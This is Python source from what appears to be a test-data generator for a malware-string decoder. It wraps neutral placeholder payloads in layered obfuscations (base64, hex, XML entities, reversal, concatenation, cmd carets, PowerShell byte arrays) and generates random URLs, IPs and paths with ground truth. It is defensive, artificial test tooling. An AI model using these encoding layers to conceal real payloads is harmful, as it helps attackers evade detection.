    name, prefix, alpha, suffix = SKELETONS[idx]
    for t in base.tails(alpha, L):
        yield name, prefix + t + suffix
    for _ in range(extra):
        n = r.randint(L + 1, L + 4)
        t = b"".join(r.choice(alpha) for _ in range(n))
        yield name, prefix + t + suffix


def xor_numbers():
    """FromBase64String / FromHexString next to -bxor K for K = 0..999."""
    for k in range(1000):
        yield "xor-b64", b"FromBase64String('ZHVjaw==') -bxor " + str(k).encode()
    for k in itertools.chain(range(0, 1000, 7), (255, 256, 257, 999)):
        yield "xor-hex", b"[System.Convert]::FromHexString('6475636b6475636b6475636b') -bxor " + str(k).encode()
        yield "xor-b64-pre", b"-bxor" + str(k).encode() + b" x FromBase64String(\"ZHVjaw==\")"
