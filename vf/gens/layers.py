"""G-layer: prefix + E1(E2(...En(payload))) + suffix with ground truth.

Each encoder has a *domain predicate* written from the documentation of the
decoder it targets; a stack is only emitted if every intermediate plaintext
satisfies the predicate of the encoder applied to it (otherwise re-draw)."""

from __future__ import annotations

import base64
import re

from vf.gens import netgen

B64_ALPHA = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
LITERAL_BAD = set(b"\"'\\`")


def printable(p: bytes) -> bool:
    return all(0x20 <= c <= 0x7E for c in p)


def literal_safe(p: bytes) -> bool:
    return printable(p) and not (set(p) & LITERAL_BAD)


def one_quote_kind(p: bytes) -> bool:
    """Printable, no backslash / back-tick, and at most ONE of the two quote characters (the literal is then written with
    the other one, which the documented string syntax allows)."""
    if not printable(p) or (b"'" in p and b'"' in p):
        return False
    if set(p) & set(b"\\`"):
        # backslash and back-tick are escape characters of the double-quoted syntax only: such text must be single-quoted
        return b"'" not in p
    return True


def quote_for(r, p: bytes) -> bytes:
    if b'"' in p or (set(p) & set(b"\\`")):
        return b"'"
    if b"'" in p:
        return b'"'
    return r.choice([b'"', b"'"])


def not_operator(p: bytes) -> bool:
    return re.fullmatch(rb"[\s_]*(?:&|\+|&amp;)[\s_]*", p) is None


def randcase(r, s: bytes, p=0.25) -> bytes:
    """Spelling in arbitrary letter case (for call forms whose documented pattern is case-insensitive)."""
    x = r.random()
    if x < 0.5:
        return s
    if x < 0.65:
        return s.lower()
    if x < 0.8:
        return s.upper()
    return bytes(c ^ 0x20 if (65 <= c <= 90 or 97 <= c <= 122) and r.random() < p else c for c in s)


class Enc:
    name = ""
    type = ""
    label = ""
    delims = (b" ", b" ")  # neutral delimiters when outermost
    value_prefix = b""  # node value = value_prefix + plaintext

    def dom(self, p: bytes) -> bool:
        return True

    def enc(self, p: bytes, r) -> bytes:
        raise NotImplementedError


class B64Bare(Enc):
    name, type, label = "b64", "", "encoding.base64"

    def dom(self, p):
        if len(p) < 16:
            return False
        t = base64.b64encode(p)
        core = t.rstrip(b"=")
        if len(core) < 22 or len(set(t)) <= 6:
            return False
        if re.fullmatch(rb"(?i)[a-f0-9]+", t) or re.fullmatch(rb"(?i)[a-z]+", t):
            return False
        if t.count(b"/") / len(t) > 3 / 32:
            return False
        return True

    def enc(self, p, r):
        return base64.b64encode(p)


class Atob(Enc):
    name, type, label = "atob", "javascript.string", "encoding.base64"

    def dom(self, p):
        return len(p) >= 1

    def enc(self, p, r):
        q = r.choice([b'"', b"'"])
        return b"atob(" + q + base64.b64encode(p) + q + b")"


class B64Decode(Atob):
    name, type, label = "Base64Decode", "vba.string", "encoding.base64"

    def enc(self, p, r):
        q = r.choice([b'"', b"'"])
        return randcase(r, b"Base64Decode(") + q + base64.b64encode(p) + q + b")"


class FromB64(Atob):
    name, type, label = "FromBase64String", "powershell.bytes", "encoding.base64"

    def enc(self, p, r):
        q = r.choice([b'"', b"'"])
        return randcase(r, r.choice([b"", b"[System.Convert]::"]) + b"FromBase64String(") + q + base64.b64encode(p) + q + b")"


class HexLower(Enc):
    name, type, label = "hex", "", "decoded.hexadecimal"

    def dom(self, p):
        return len(p) >= 10

    def enc(self, p, r):
        return p.hex().encode()


class HexUpper(HexLower):
    name = "HEX"

    def enc(self, p, r):
        return p.hex().upper().encode()


class FromHex(Enc):
    name, type, label = "FromHexString", "powershell.bytes", "encoding.hexidecimal"

    def dom(self, p):
        return len(p) >= 10

    def enc(self, p, r):
        h = p.hex().encode()
        x = r.random()
        if x < 0.4:
            h = h.upper()
        elif x < 0.55:
            h = randcase(r, h)  # the call form is case-insensitive as a whole: digits may mix cases
        return randcase(r, r.choice([b"", b"[System.Convert]::"]) + b"FromHexString(") + b"'" + h + b"')"


class Utf16(Enc):
    name, type, label = "utf16", "", "codec.uft-16"

    def dom(self, p):
        return len(p) >= 7 and all(0x20 <= c <= 0x7E or c in (9, 10, 11, 12, 13) for c in p)

    def enc(self, p, r):
        return p.decode("latin-1").encode("utf-16-le")


class XmlDec(Enc):
    name, type, label = "xmldec", "", "unescape.xml"

    def dom(self, p):
        return len(p) >= 5

    def enc(self, p, r):
        return b"".join(b"&#%d;" % c for c in p)


class XmlHex(XmlDec):
    name = "xmlhex"

    def enc(self, p, r):
        up = r.random() < 0.5
        marker = r.choice([b"x", b"x", b"X", None])  # the reference pattern is case-insensitive: &#X41; is a reference too
        return b"".join(b"&#" + (marker or r.choice([b"x", b"X"])) + (b"%02X" if up else b"%02x") % c + b";" for c in p)


class XmlMixed(XmlDec):
    name = "xmlmix"

    def enc(self, p, r):
        x = r.choice([b"x", b"x", b"X"])
        return b"".join((b"&#" + x + b"%02x;" % c) if r.random() < 0.5 else (b"&#%d;" % c) for c in p)


class Unescape(Enc):
    name, type, label = "unescape", "string", "function.unescape"

    def dom(self, p):
        return len(p) >= 1

    def enc(self, p, r):
        keep = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return b"unescape('" + b"".join(bytes([c]) if c in keep and r.random() < 0.7 else b"%%%02x" % c for c in p) + b"')"


class Concat(Enc):
    name, type, label = "concat", "string", "concatenation"

    def dom(self, p):
        return len(p) >= 2 and printable(p) and not (set(p) & set(b"\"'"))

    def enc(self, p, r):
        for _ in range(20):
            k = r.randint(2, min(5, len(p)))
            cuts = sorted(r.sample(range(1, len(p)), k - 1))
            parts = [p[a:b] for a, b in zip([0] + cuts, cuts + [len(p)])]
            # a literal that reads as a quoted cmd token ("cmd", "cmd.exe") would make the raw text a cmd result that
            # swallows the whole expression: outside the neutral-surroundings domain
            if all(not_operator(x) for x in parts) and not any(re.fullmatch(rb"(?i)(?:C:\\WINDOWS\\system32\\)?cmd(?:.exe)?", x) for x in parts):
                break
        else:
            return None
        out = b""
        for i, part in enumerate(parts):
            q = b"'" if (set(part) & set(b"\\`")) else r.choice([b'"', b"'"])
            if i:
                out += spacer(r)
            out += q + part + q
        return out


class Reverse(Enc):
    name, type, label = "reverse", "string", "reverse"

    def dom(self, p):
        return len(p) >= 1 and one_quote_kind(p)

    def enc(self, p, r):
        q = quote_for(r, p)
        return r.choice([b"reverse(", b"reversed(", b"Reverse(", b"REVERSED( "]) + pad(r) + q + p[::-1] + q + pad(r) + b")"


class StrReverse(Reverse):
    name, type, label = "StrReverse", "vba.string", "vba.reverse"

    def enc(self, p, r):
        q = quote_for(r, p)
        return r.choice([b"StrReverse(", b"strreverse( ", b"STRREVERSE("]) + pad(r) + q + p[::-1] + q + pad(r) + r.choice([b")", b" )"])


def spacer(r) -> bytes:
    """A joining operator with any run of white space / line-continuation underscores on either side."""
    if r.random() < 0.6:
        return r.choice([b" + ", b"+", b" & ", b"&", b" &amp; ", b" +\n", b" _\r\n& ", b"\t+\t"])
    ws = [b" ", b"\t", b"\n", b"\r\n", b"_", b" _\r\n", b"\x0b", b"\x0c", b"\r"]
    left = b"".join(r.choice(ws) for _ in range(r.randint(0, 3)))
    right = b"".join(r.choice(ws) for _ in range(r.randint(0, 3)))
    return left + r.choice([b"+", b"&", b"&amp;"]) + right


def pad(r) -> bytes:
    """Optional padding where the documented expression syntax allows white space: any white space character."""
    return r.choice([b""] * 6 + [b" ", b"\t", b"\n", b"\r\n", b"\r", b"\x0b", b"\x0c", b"  ", b" \n "])


def _marked(p, r):
    for _ in range(20):
        m = bytes(r.choice(b"#@!~%QZ") for _ in range(r.randint(1, 3)))
        if m not in p and not (set(m) & set(p)):
            break
    else:
        return None, None
    pos = sorted(r.randrange(len(p) + 1) for _ in range(r.randint(1, 4)))
    out = bytearray()
    last = 0
    for x in pos:
        out += p[last:x] + m
        last = x
    out += p[last:]
    return bytes(out), m


class Replace(Enc):
    name, type, label = "replace", "string", "replace"
    form = "js"

    def dom(self, p):
        return len(p) >= 1 and one_quote_kind(p)

    def enc(self, p, r):
        x, m = _marked(p, r)
        if x is None:
            return None
        q1, q2, q3 = quote_for(r, p), r.choice([b'"', b"'"]), r.choice([b'"', b"'"])
        if self.form == "js":
            return q1 + x + q1 + b".replace(" + pad(r) + q2 + m + q2 + pad(r) + r.choice([b",", b", "]) + pad(r) + q3 + q3 + pad(r) + b")"
        if self.form == "vba":
            return r.choice([b"Replace(", b"replace("]) + pad(r) + q1 + x + q1 + pad(r) + b", " + q2 + m + q2 + pad(r) + b"," + pad(r) + q3 + q3 + pad(r) + b")"
        if self.form == "ps":
            return q1 + x + q1 + r.choice([b" -replace ", b"-replace", b" -Replace ", b"\n-replace\t"]) + q2 + m + q2 + pad(r) + b"," + pad(r) + q3 + q3
        # js regex form: marker must be metacharacter free
        if set(m) & set(b"/[](){}\\.+*?^$,"):
            return None
        return q1 + x + q1 + b".replace(/" + m + b"/" + r.choice([b"", b"g", b"gi", b"gim"]) + pad(r) + b"," + pad(r) + q3 + q3 + pad(r) + b")"


class VbaReplace(Replace):
    name, type, label, form = "vbareplace", "vba.string", "vba.replace", "vba"


class PsReplace(Replace):
    name, type, label, form = "psreplace", "powershell.string", "replace", "ps"


class JsReReplace(Replace):
    name, type, label, form = "jsrereplace", "javascript.string", "replace", "jsre"


class CmdCaret(Enc):
    name, type, label = "cmdcaret", "shell.cmd", "unescape.shell.carets"
    delims = (b"(", b")")
    value_prefix = b"cmd /c "

    def dom(self, p):
        if not p or any(c in b'^"\r\x00\n' for c in p) or p != p.strip() or b"  " in p:
            return False
        bal = 0
        for c in p:
            if c == 0x28:
                bal += 1
            elif c == 0x29:
                bal -= 1
                if bal < 0:
                    return False
        if re.search(rb"(?i)\bc\^?m\^?d\b|cmd", p):
            return False
        return True

    def enc(self, p, r):
        out = bytearray(b"cmd /c ")
        n = 0
        for c in p:
            if c != 0x20 and (r.random() < 0.3 or n == 0):
                out += b"^"
                n += 1
            out.append(c)
        return bytes(out)


class PsBytes(Enc):
    name, type, label = "psbytes", "powershell.bytes", ""

    def dom(self, p):
        return 501 <= len(p) <= 1500

    def enc(self, p, r):
        style = r.choice(["dec", "dec", "hex", "hex", "mixed", "padded"])
        sep = r.choice([b",", b", ", b",", b", ", b",\n", b",\t", b",\r\n  ", b",  "])
        pre = r.choice([b"0x", b"0x", b"0X"])

        def one(c):
            st = style if style != "mixed" else r.choice(["dec", "hex", "padded", "HEX"])
            if st == "hex":
                return pre + b"%02x" % c
            if st == "HEX":
                return r.choice([b"0x", b"0X"]) + b"%02X" % c
            if st == "padded" and r.random() < 0.5:
                return b"%03d" % c  # up to three digits: 065, 007, 000
            return b"%d" % c
        return sep.join(one(c) for c in p)


ENCODERS = [B64Bare(), Atob(), B64Decode(), FromB64(), HexLower(), HexUpper(), FromHex(), Utf16(), XmlDec(), XmlHex(),
            XmlMixed(), Unescape(), Concat(), Reverse(), StrReverse(), Replace(), VbaReplace(), PsReplace(), JsReReplace(),
            CmdCaret(), PsBytes()]
BY_NAME = {e.name: e for e in ENCODERS}

PAYLOADS = [
    lambda r: b"http://" + netgen.domain(r) + b"/" + netgen.label(r) + b".exe",
    lambda r: b"connect " + netgen.ipv4(r) + b" now",
    lambda r: b"mail " + netgen.email(r) + b" please",
    lambda r: b"run " + netgen.exe_name(r) + b" quickly",
    lambda r: b"see " + netgen.domain(r) + b" zzz",
    lambda r: netgen.posix_path(r),
    lambda r: b"qzx jvw " * r.randint(1, 4),
    lambda r: b"C:\\Users\\Public\\" + netgen.label(r) + b".dll",
]


def neutral_payload(r) -> bytes:
    return r.choice(PAYLOADS)(r)


def build_stack(r, height: int, names=None, payload=None, pad_to=None, max_blob=16000):
    """-> record or None (domain violated; caller re-draws)."""
    p = payload if payload is not None else neutral_payload(r)
    encs = [BY_NAME[n] for n in names] if names else [r.choice(ENCODERS[:-1]) for _ in range(height)]
    if pad_to:
        while len(p) < pad_to:
            p += b" " + neutral_payload(r)
    # build inside out
    plains = [None] * len(encs)
    cur = p
    for i in range(len(encs) - 1, -1, -1):
        e = encs[i]
        if not e.dom(cur):
            return None
        if i + 1 < len(encs) and e.name == "cmdcaret" and encs[i + 1].name == "cmdcaret":
            return None
        plains[i] = cur
        blob = e.enc(cur, r)
        if blob is None or len(blob) > max_blob:
            return None
        cur = blob
    blob = cur
    dl, dr = encs[0].delims
    prefix = netgen.offsets_prefix(r)
    if prefix.endswith(b" ") and dl == b" ":
        prefix = prefix[:-1]
    suffix = netgen.neutral_text(r)
    if encs[0].name == "concat" and dr == b" " and r.random() < 0.3:
        # the chain is followed by a further operator and something that is not a literal (a variable, a constant)
        suffix = r.choice([b"& vbCrLf", b"+ x", b"+y", b"&", b"&amp; z", b"_\r\n& vbTab"]) + b" " + suffix
        dr = r.choice([b" ", b""])
    if dr == b" " and not suffix:
        dr = b""
    data = prefix + dl + blob + dr + suffix
    return {
        "data": data, "prefix": prefix + dl, "suffix": dr + suffix, "blob": blob, "payload": p,
        "layers": [{"name": e.name, "type": e.type, "label": e.label, "plain": plains[i], "value": e.value_prefix + plains[i],
                    "inner_off": len(e.value_prefix)} for i, e in enumerate(encs)],
    }
