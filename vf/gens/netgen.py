"""G-ioc / G-url: indicator grammars with ground truth by construction.

Every generator returns the indicator text; `expect` records describe what the
property promises for it (type, canonical value). Documented false-positive
heuristics are avoided by construction (see DESIGN.md, C11)."""

from __future__ import annotations

import re

import ntpath

from vf.gens import pe as pegen

LOWER = b"abcdefghijklmnopqrstuvwxyz"
DIGITS = b"0123456789"
HEXLOW = b"0123456789abcdef"

ROOT_FPOS = {
    b"adodb", b"aquota", b"at", b"array", b"arrayprototype", b"basic", b"button", b"cgroup", b"contributing",
    b"ctrl-alt-del", b"di", b"data", b"date", b"default", b"email", b"emergency", b"enduser", b"error", b"event", b"exit",
    b"function", b"functionprototype", b"graphical", b"halt", b"httpd", b"init", b"initrd-fs", b"initrd-root-fs",
    b"install", b"it", b"ipconf", b"local-fs", b"local-fs-pre", b"manager", b"memory", b"method", b"mount", b"multi-user",
    b"myapplication", b"nativedate", b"network", b"network-online", b"nss", b"nss-lookup", b"obj", b"object", b"org",
    b"oshlnk", b"path", b"paths", b"poweroff", b"reboot", b"remote", b"remote-fs", b"remote-fs-pre", b"rescue",
    b"response", b"ribbon", b"rpcbind", b"service", b"set", b"socket", b"sockets", b"string", b"shutdown", b"sigpwr",
    b"simple", b"startup", b"swap", b"syntaxerror", b"sysinit", b"syslog", b"system", b"table", b"time", b"timers",
    b"time-sync", b"tomcat", b"ui", b"umount", b"user", b"window", b"wscript", b"wshshell", b"zone",
}
TLD_FPOS = {
    b"at", b"app", b"auto", b"build", b"call", b"cat", b"center", b"city", b"click", b"country", b"data", b"day", b"direct",
    b"email", b"events", b"exposed", b"fail", b"global", b"green", b"group", b"how", b"id", b"in", b"io", b"info", b"is",
    b"it", b"lat", b"link", b"map", b"md", b"mobile", b"ms", b"marketing", b"name", b"next", b"now", b"open", b"page",
    b"pid", b"pl", b"pm", b"play", b"py", b"radio", b"read", b"red", b"run", b"save", b"search", b"services", b"sh",
    b"shell", b"so", b"software", b"spa", b"space", b"store", b"stream", b"style", b"support", b"tab", b"target", b"total",
    b"top", b"zone",
}

_tlds = None


def tlds():
    """Registered TLDs usable by the free-text grammar: 2-12 letters, not in the documented false-positive list."""
    global _tlds
    if _tlds is None:
        from multidecoder.domains import TOP_LEVEL_DOMAINS

        out = []
        for t in sorted(TOP_LEVEL_DOMAINS):
            tb = t.encode() if isinstance(t, str) else bytes(t)
            low = tb.lower()
            if low.isalpha() and 2 <= len(low) <= 12 and low not in TLD_FPOS and low not in (b"exe", b"dll"):
                out.append(low)
        _tlds = out
    return _tlds


def label(r, lo=3, hi=10) -> bytes:
    n = r.randint(lo, hi)
    alpha = LOWER + DIGITS
    s = bytes([r.choice(LOWER)]) + bytes(r.choice(alpha + b"-") for _ in range(n - 2)) + bytes([r.choice(alpha)])
    while b"--" in s:
        s = s.replace(b"--", b"-a")
    # avoid labels that read as hex runs or keywords of the shipped lists by keeping a 'q'/'z' inside
    pos = r.randrange(1, len(s) - 1) if len(s) > 2 else 0
    s = s[:pos] + bytes([r.choice(b"qzjx")]) + s[pos + 1:]
    if s[-1:] == b"-":
        s = s[:-1] + b"q"
    return s


def domain(r, case_mix=False) -> bytes:
    while True:
        nlab = r.choice([1, 1, 2, 3])
        labs = [label(r) for _ in range(nlab)]
        d = b".".join(labs + [r.choice(tlds())])
        if len(d) < 7 or len(d) > 60:
            continue
        if labs[0] in ROOT_FPOS or len(labs[0]) == 1 or d.startswith(b"this.") or d.startswith(b"lib"):
            continue
        if case_mix:
            d = bytes(c - 32 if 97 <= c <= 122 and r.random() < 0.3 else c for c in d)
            # "[a-z]+.[A-Z][a-z]+" at the start is the documented attribute-access heuristic
            first, _, rest = d.partition(b".")
            if first.isalpha() and first.islower() and rest[:1].isupper():
                continue
        return d


def ipv4(r) -> bytes:
    while True:
        parts = [r.choice([r.randrange(256), r.randrange(10), r.randrange(100, 256)]) for _ in range(4)]
        if parts[3] in (0, 255) or not any(parts):
            continue
        ip = ".".join(str(p) for p in parts).encode()
        if all(c in b"0x." for c in ip):
            continue
        return ip


def odd_ipv4(r) -> bytes:
    """Dotted quads in every octet spelling the documented pattern accepts (zero padded, hexadecimal, out of range)."""
    def octet():
        x = r.random()
        v = r.choice([r.randrange(256), r.randrange(10), 8, 9, 89, 99, 255, 256, 300, 999])
        if x < 0.3:
            return str(v).encode()
        if x < 0.6:
            return b"0" * r.randint(1, 3) + str(v).encode()
        if x < 0.8:
            return r.choice([b"0x", b"0X"]) + b"0" * r.choice([0, 0, 1, 4]) + (b"%x" % (v & 0xFF))
        return (b"%o" % v).rjust(4, b"0")
    return b".".join(octet() for _ in range(4))


def email(r) -> bytes:
    alpha = LOWER + DIGITS
    n = r.randint(3, 12)
    local = bytes([r.choice(alpha)]) + bytes(r.choice(alpha + b"._%+-") for _ in range(n - 2)) + bytes([r.choice(alpha)])
    return local + b"@" + domain(r)


_COMMAND_TOKENS = (b"cmd", b"pwsh", b"powershell")


def _word(r, lo, hi) -> bytes:
    """Random [a-z0-9_] word that is not a command token (cmd, pwsh, powershell start shell results of their own whose end
    depends on the text behind the indicator; at thorough-tier volumes such a coincidence is no longer negligible)."""
    while True:
        w = bytes(r.choice(LOWER + DIGITS + b"_") for _ in range(r.randint(lo, hi)))
        if w not in _COMMAND_TOKENS:
            return w


def posix_path(r) -> bytes:
    pre = r.choice([b"/", b"./", b"../"])
    segs = [_word(r, 3, 9) for _ in range(r.randint(1, 4))]
    last = _word(r, 3, 9)
    if r.random() < 0.5:
        last += b"." + r.choice([b"txt", b"cfg", b"log", b"py_", b"dat"])
    return pre + b"/".join(segs) + b"/" + last


def _wseg(r) -> bytes:
    while True:
        w = bytes(r.choice(LOWER + DIGITS + b"_-") for _ in range(r.randint(3, 9))).replace(b"--", b"-q")
        # a segment that reads as a command token starts a shell result of its own (with thousands of segments per path this
        # is no longer a negligible coincidence)
        if not re.search(rb"(?<![a-z0-9_])(?:cmd|pwsh|powershell)(?![a-z0-9_])", w):
            return w


def windows_path(r) -> tuple[bytes, str]:
    """One of the documented shapes. Returns (text, expected type)."""
    shape = r.randrange(10)
    nseg = r.randint(1, 4) if r.random() < 0.98 else r.choice([70, 400, 3000])  # MAX_PATH is not a limit of the syntax
    segs = []
    for _ in range(nseg):
        x = r.random()
        segs.append(b"." if x < 0.08 else b".." if x < 0.2 else _wseg(r))
    fname = _wseg(r) + r.choice([b".txt", b".exe", b".dll", b".pdf", b"", b".DLL", b".xlsx"])
    host = r.choice([domain(r), ipv4(r), _wseg(r), b"0x7f.0.0.1", b"system07", domain(r) + b".", b"0300.0250.012.024", b"127.1", b"3232238100",
                     b"010.1.1.1", b"7", b"10", b"1"])
    if shape == 0:
        pre, t = bytes([r.choice(b"CDEcdz")]) + b":\\", "windows.path"
    elif shape == 1:
        pre, t = bytes([r.choice(b"CDc")]) + b":", "windows.path"  # drive relative
    elif shape == 2:
        pre, t = b"\\", "windows.path"
    elif shape == 3:
        pre, t = b"", "windows.path"  # relative
        if segs[0] in (b".",):
            segs[0] = b".."
    elif shape == 4:
        pre, t = b"\\\\" + host + r.choice([b"", b"@SSL", b"@8080", b"@SSL@443", b"@ssl", b"@Ssl@80", b"@0", b"@65535"]) + b"\\", "windows.unc.path"
    elif shape == 5:
        pre, t = b"\\\\" + host + b"\\" + bytes([r.choice(b"Cc")]) + b"$\\", "windows.unc.path"
    elif shape == 6:
        pre, t = b"\\\\" + r.choice([b".", b"?"]) + b"\\" + bytes([r.choice(b"Cc")]) + b":\\", "windows.device.path"
    elif shape == 7:
        pre, t = b"\\\\" + r.choice([b".", b"?"]) + b"\\UNC\\" + host + b"\\", "windows.device.path"
    elif shape == 8:
        guid = b"-".join(bytes(r.choice(HEXLOW) for _ in range(n)) for n in (8, 4, 4, 4, 12))
        if r.random() < 0.3:
            guid = guid.upper()
        pre, t = b"\\\\" + r.choice([b".", b"?"]) + b"\\Volume{" + guid + b"}\\", "windows.device.path"
    else:
        pre, t = b"\\\\" + r.choice([b".", b"?"]) + b"\\", "windows.device.path"
    # UNC-style prefixes need a share segment that is not a dot segment
    if shape in (4, 7) and segs[0] in (b".", b".."):
        segs[0] = _wseg(r)
    text = pre + b"\\".join(segs) + b"\\" + fname
    return text, t


def exe_name(r) -> bytes:
    return _word(r, 1, 10) + r.choice([b".exe", b".dll", b".EXE", b".Dll", b".Exe", b".eXe", b".dLL", b".DLL"])


def createobject(r) -> bytes:
    inner = r.choice([b'"WScript.Shell"', b'"Scripting.FileSystemObject"', b"x(1)(2)", b"", b'"a" & b(c(d))', b"(())", b'"q"'])
    head = r.choice([b"CreateObject(", b"createobject(", b"CREATEOBJECT(", b"CreateObject( "])
    return head + inner + b")"


# --------------------------------------------------------------------------
# URLs

SCHEMES = [b"http", b"https", b"ftp", b"HTTP", b"HTTPS", b"FTP", b"HtTp", b"hTTps", b"Ftp", b"httpS"]
UNRESERVED = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"


def pct(r, c: int) -> bytes:
    h = b"%%%02x" % c
    return h.upper() if r.random() < 0.5 else h


def esc_some(r, s: bytes, p=0.3, extra=b"") -> bytes:
    """Percent-escape some bytes of s (any byte may be escaped)."""
    out = bytearray()
    for c in s:
        if r.random() < p:
            out += pct(r, c)
        else:
            out.append(c)
    if extra and r.random() < 0.5:
        pos = r.randrange(len(out) + 1)
        out[pos:pos] = r.choice([pct(r, c) for c in extra])
    return bytes(out)


_HOST_POOL: list[bytes] = []


def recase(r, s: bytes) -> bytes:
    x = r.random()
    if x < 0.3:
        return s.upper()
    if x < 0.6:
        return s.lower()
    return bytes(c ^ 0x20 if (65 <= c <= 90 or 97 <= c <= 122) and r.random() < 0.4 else c for c in s)


def url(r, escapes=True) -> dict:
    """RFC 3986 URL within what the documented URL pattern accepts. Returns the pieces."""
    scheme = r.choice(SCHEMES)
    # userinfo
    ui_kind = r.choice(["none"] * 5 + ["user", "user:pw", "user:", ":pw", "empty", "escaped", "at-inside"])
    user = bytes(r.choice(LOWER + DIGITS) for _ in range(r.randint(1, 6)))
    pw = bytes(r.choice(LOWER + DIGITS + b"!$") for _ in range(r.randint(1, 6)))
    if ui_kind == "none":
        userinfo = None
    elif ui_kind == "user":
        userinfo = user
    elif ui_kind == "user:pw":
        userinfo = user + b":" + pw
    elif ui_kind == "user:":
        userinfo = user + b":"
    elif ui_kind == ":pw":
        userinfo = b":" + pw
    elif ui_kind == "empty":
        userinfo = b""
    elif ui_kind == "escaped":
        userinfo = esc_some(r, user, 0.5, b" @:/") + b":" + esc_some(r, pw, 0.5, b" @")
    else:
        userinfo = user + b"@" + pw
    # host
    hk = r.choice(["domain"] * 5 + ["ip", "ip", "aton", "esc-domain", "esc-reserved", "ipv6", "ipv6-esc", "unregistered",
                                    "mixedcase", "trailing-dot"])
    if hk == "domain":
        host = domain(r)
    elif hk == "mixedcase":
        host = domain(r, case_mix=True)
    elif hk == "trailing-dot":
        host = r.choice([domain(r), ipv4(r)]) + b"."
    elif hk == "ip":
        host = ipv4(r)
    elif hk == "aton":
        host = r.choice([b"0x7f.0.0.1", b"0177.0.0.1", b"2130706433", b"127.1", b"0x7f000001", b"010.1.1.1", b"192.168.001.010",
                         b"1.2.3", b"0x1.0x2.0x3.0x4", b"00000001.2.3.4"])
    elif hk == "esc-domain":
        host = esc_some(r, domain(r), 0.3)
    elif hk == "esc-reserved":
        host = r.choice([b"foo%40bar.com", b"1.2.3.4%20", b"ex%2Fample.com", b"a%3Ab.example.org", b"%20example.com"])
    elif hk == "ipv6":
        host = r.choice([b"[::1]", b"[2001:db8::1]", b"[fe80::1:2:3:4]", b"[0:0:0:0:0:0:0:1]", b"[2001:db8::c0de]", b"[2001:DB8::C0DE]",
                         b"[FE80::A:B:C:D]", b"[::ffff:1.2.3.4]".replace(b".", b":"),
                         # special-purpose ranges: IPv4-mapped / -compatible in hexadecimal groups, unspecified, 6to4, NAT64, multicast
                         b"[::ffff:7f00:1]", b"[0:0:0:0:0:FFFF:0A00:0005]", b"[::ffff:0:0]", b"[::7f00:1]", b"[::]", b"[2002:c000:204::]",
                         b"[64:ff9b::c000:201]", b"[ff02::1]", b"[fc00::1]", b"[::ffff:ffff:ffff]"])
    elif hk == "ipv6-esc":
        host = r.choice([b"[%3A%3A1]", b"%5B::1%5D", b"%5b::1]", b"[2001:db8:%3A1]", b"[::%31]"])
    else:
        host = label(r) + b"." + r.choice([b"notatld", b"zzzzq", b"internalx"])
    # state carried between calls shows only if the same host comes back, spelled in another letter case
    if _HOST_POOL and r.random() < 0.2:
        host = recase(r, r.choice(_HOST_POOL))
        hk = "pooled"
    elif hk in ("domain", "mixedcase", "ipv6", "ip"):
        _HOST_POOL.append(host)
        if len(_HOST_POOL) > 12:
            _HOST_POOL.pop(0)
    if hk in ("domain", "ip", "unregistered", "mixedcase") and r.random() < 0.12:
        # the host text also occurs inside the userinfo (look-alike login names): positions must not be found by text search
        x = r.random()
        userinfo = host if x < 0.3 else (b"login." + host if x < 0.6 else user + b":" + host if x < 0.8 else host[1:] + b":" + pw)
        ui_kind = "host-inside"
    port = r.choice([None] * 5 + [b"80", b"8080", b"", b"65535", b"0", b"443"])
    # path
    pk = r.choice(["none", "slash", "plain", "plain", "dots", "dots", "esc", "many-dotdot", "empty-seg"])
    segs = []
    if pk in ("plain", "dots", "esc", "many-dotdot", "empty-seg"):
        for _ in range(r.randint(1, 5)):
            x = r.random()
            if pk == "dots" and x < 0.4:
                segs.append(r.choice([b".", b"..", b"%2e", b"%2E%2e", b".%2E", b"%%32E%%32E", b"%%32e", b"%252e%252e"]))
            elif pk == "many-dotdot" and x < 0.7:
                segs.append(b"..")
            elif pk == "empty-seg" and x < 0.3:
                segs.append(b"")
            else:
                s = bytes(r.choice(LOWER + DIGITS + b"-_~") for _ in range(r.randint(1, 8)))
                if pk == "esc" or (escapes and x > 0.8):
                    s = esc_some(r, s, 0.3, b" /%?#A.\xe9\x00")
                segs.append(s)
    if r.random() < 0.02:
        # longer than any plausible fixed limit on URL length
        pk = "long"
        segs = [bytes(r.choice(LOWER + DIGITS + b"-_~") for _ in range(r.randint(1, 8))) for _ in range(r.choice([60, 500, 2500]))]
        for _ in range(r.randint(0, 3)):
            segs[r.randrange(len(segs))] = r.choice([b"..", b".", b"%2e%2E"])
    if pk == "none":
        path = b""
    elif pk == "slash":
        path = b"/"
    else:
        path = b"/" + b"/".join(segs)
        if r.random() < 0.2:
            path += b"/"
    qk = r.choice(["none"] * 3 + ["kv", "kv", "empty", "esc", "ioc", "delims", "pctsign"])
    if qk == "none":
        query = None
    elif qk == "kv":
        query = b"&".join(bytes(r.choice(LOWER) for _ in range(r.randint(1, 4))) + b"=" + bytes(r.choice(LOWER + DIGITS) for _ in range(r.randint(0, 6))) for _ in range(r.randint(1, 3)))
    elif qk == "ioc":
        query = b"u=" + domain(r) + b"&i=" + ipv4(r) + r.choice([b"", b"&f=" + exe_name(r)])
    elif qk == "pctsign":
        # a per cent sign followed by a sign or white-space-like character and hexadecimal letters is not an escape
        query = r.choice([b"off=20%-everything", b"x=%+ab", b"p=50%-a1", b"q=%+f", b"r=100%_ab", b"s=%0xab"])
    elif qk == "delims":
        # the delimiters of the other components are ordinary characters inside a query
        query = r.choice([b"next=/a/b?c=d", b"u=x:y@z", b"a=b?c", b"q=//x/../y", b"r=http://" + domain(r) + b"/p?x=1"])
    elif qk == "empty":
        query = b""
    else:
        query = b"q=" + esc_some(r, b"a b&c=d/e", 0.5, b"%#\xff")
    fk = r.choice(["none"] * 3 + ["plain", "esc", "delims"])
    if fk == "none":
        frag = None
    elif fk == "plain":
        frag = b"frag" + bytes(r.choice(DIGITS) for _ in range(2))
    elif fk == "delims":
        # '?', '/', ':' and '@' after the '#' belong to the fragment (single-page application routes)
        frag = r.choice([b"top?x=1", b"/route?tab=2", b"/a/b/../c", b"user@host:80", b"?", b"a?b#c"])
    else:
        frag = esc_some(r, b"sec tion-1", 0.4)
    text = scheme + b"://"
    if userinfo is not None:
        text += userinfo + b"@"
    text += host
